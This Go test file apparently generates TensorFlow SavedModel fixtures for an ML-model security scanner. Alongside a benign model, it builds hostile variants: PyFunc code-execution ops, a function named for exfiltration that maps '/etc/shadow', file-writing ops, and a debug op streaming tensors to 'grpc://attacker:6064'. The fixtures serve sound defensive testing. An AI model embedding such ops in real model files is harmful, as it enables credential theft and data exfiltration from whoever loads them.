package savedmodel

import (
	"flag"
	"path/filepath"
	"testing"

	"google.golang.org/protobuf/proto"

	pb "github.com/mlsecops/mlsec/format/savedmodel/tfpb"
	"github.com/mlsecops/mlsec/internal/testutil/golden"
)

var update = flag.Bool("update", false, "rewrite testdata fixtures")

// The builders below are the checked-in generator of testdata/*/saved_model.pb
// (Debian has no TensorFlow); run `go test ./format/savedmodel -run
// TestFixtures -update` to rewrite them. Each fixture is a SavedModel
// directory.

func n(name, op string, attrs ...any) *pb.NodeDef {
	nd := &pb.NodeDef{Name: name, Op: op, Attr: map[string]*pb.AttrValue{}}
	for i := 0; i+1 < len(attrs); i += 2 {
		k := attrs[i].(string)
		switch v := attrs[i+1].(type) {
		case string:
			nd.Attr[k] = &pb.AttrValue{Value: &pb.AttrValue_S{S: []byte(v)}}
		case []string:
			l := &pb.AttrValue_ListValue{}
			for _, s := range v {
				l.S = append(l.S, []byte(s))
			}
			nd.Attr[k] = &pb.AttrValue{Value: &pb.AttrValue_List{List: l}}
		case *pb.NameAttrList:
			nd.Attr[k] = &pb.AttrValue{Value: &pb.AttrValue_Func{Func: v}}
		}
	}
	return nd
}

func fn(name string, nodes ...*pb.NodeDef) *pb.FunctionDef {
	return &pb.FunctionDef{Signature: &pb.OpDef{Name: name}, NodeDef: nodes}
}

func call(name, f string) *pb.NodeDef {
	return n(name, "StatefulPartitionedCall", "f", &pb.NameAttrList{Name: f})
}

// normal is the shape of a TF2 Keras SavedModel: a serving signature, the
// traced save and restore functions, and a TF1-style saver graph.
func normal(extraGraph []*pb.NodeDef, extraFns ...*pb.FunctionDef) *pb.SavedModel {
	graph := []*pb.NodeDef{
		n("serving_default_input", "Placeholder"),
		n("saver_filename", "Placeholder"),
		call("StatefulPartitionedCall", "__inference_signature_wrapper_310"),
		call("StatefulPartitionedCall_1", "__inference__traced_save_402"),
		call("StatefulPartitionedCall_2", "__inference__traced_restore_431"),
		n("save/filename", "PlaceholderWithDefault"),
		n("save/SaveV2", "SaveV2"),
		n("save/RestoreV2", "RestoreV2"),
		n("save/ShardedFilename", "ShardedFilename"),
		n("save/StringJoin", "StringJoin"),
		n("save/MergeV2Checkpoints", "MergeV2Checkpoints"),
		n("hash_table", "HashTableV2"),
		n("table_init", "InitializeTableFromTextFileV2"),
		n("print", "PrintV2", "output_stream", "stderr"),
	}
	fns := []*pb.FunctionDef{
		fn("__inference_signature_wrapper_310", call("StatefulPartitionedCall", "__inference_serve_300")),
		fn("__inference_serve_300",
			n("dense/MatMul/ReadVariableOp", "ReadVariableOp"),
			n("dense/MatMul", "MatMul"),
			n("dense/BiasAdd", "BiasAdd"),
			n("dense/Relu", "Relu"),
			n("dense_1/Softmax", "Softmax"),
			n("Identity", "Identity")),
		fn("__inference__traced_save_402",
			n("StaticRegexFullMatch", "StaticRegexFullMatch"),
			n("Const", "Const"),
			n("Select", "Select"),
			n("StringJoin", "StringJoin"),
			n("ShardedFilename", "ShardedFilename"),
			n("SaveV2", "SaveV2"),
			n("MergeV2Checkpoints", "MergeV2Checkpoints"),
			n("Identity", "Identity")),
		fn("__inference__traced_restore_431",
			n("RestoreV2", "RestoreV2"),
			n("AssignVariableOp", "AssignVariableOp"),
			n("NoOp", "NoOp"),
			n("Identity", "Identity")),
	}
	return &pb.SavedModel{
		SavedModelSchemaVersion: 1,
		MetaGraphs: []*pb.MetaGraphDef{{
			MetaInfoDef: &pb.MetaGraphDef_MetaInfoDef{Tags: []string{"serve"}, TensorflowVersion: "2.15.0"},
			GraphDef: &pb.GraphDef{
				Node:    append(graph, extraGraph...),
				Library: &pb.FunctionDefLibrary{Function: append(fns, extraFns...)},
			},
		}},
	}
}

func fixtures() map[string]*pb.SavedModel {
	return map[string]*pb.SavedModel{
		"normal": normal(nil),
		"pyfunc": normal([]*pb.NodeDef{n("py", "PyFunc", "token", "pyfunc_0")},
			fn("__inference_call_77", n("eager", "EagerPyFunc", "token", "pyfunc_1"), n("eager_2", "EagerPyFunc"))),
		"readfile": normal(nil, fn("__inference_exfil_12",
			n("ReadFile", "ReadFile"), n("glob", "MatchingFiles"), n("mmap", "ImmutableConst", "memory_region_name", "/etc/shadow"))),
		"writefile":  normal([]*pb.NodeDef{n("drop", "WriteFile")}),
		"print_file": normal([]*pb.NodeDef{n("leak", "PrintV2", "output_stream", "file:///tmp/leak.txt")}),
		"debug":      normal([]*pb.NodeDef{n("dbg", "DebugIdentity", "debug_urls", []string{"grpc://attacker:6064"})}),
		"dataset":    normal(nil, fn("__inference_input_5", n("ds", "TFRecordDataset"), n("sv", "SaveDatasetV2"))),
	}
}

func TestFixtures(t *testing.T) {
	for name, sm := range fixtures() {
		b, err := proto.MarshalOptions{Deterministic: true}.Marshal(sm)
		if err != nil {
			t.Fatal(err)
		}
		golden.File(t, filepath.Join("testdata", name, FileName), b, *update)
	}
}
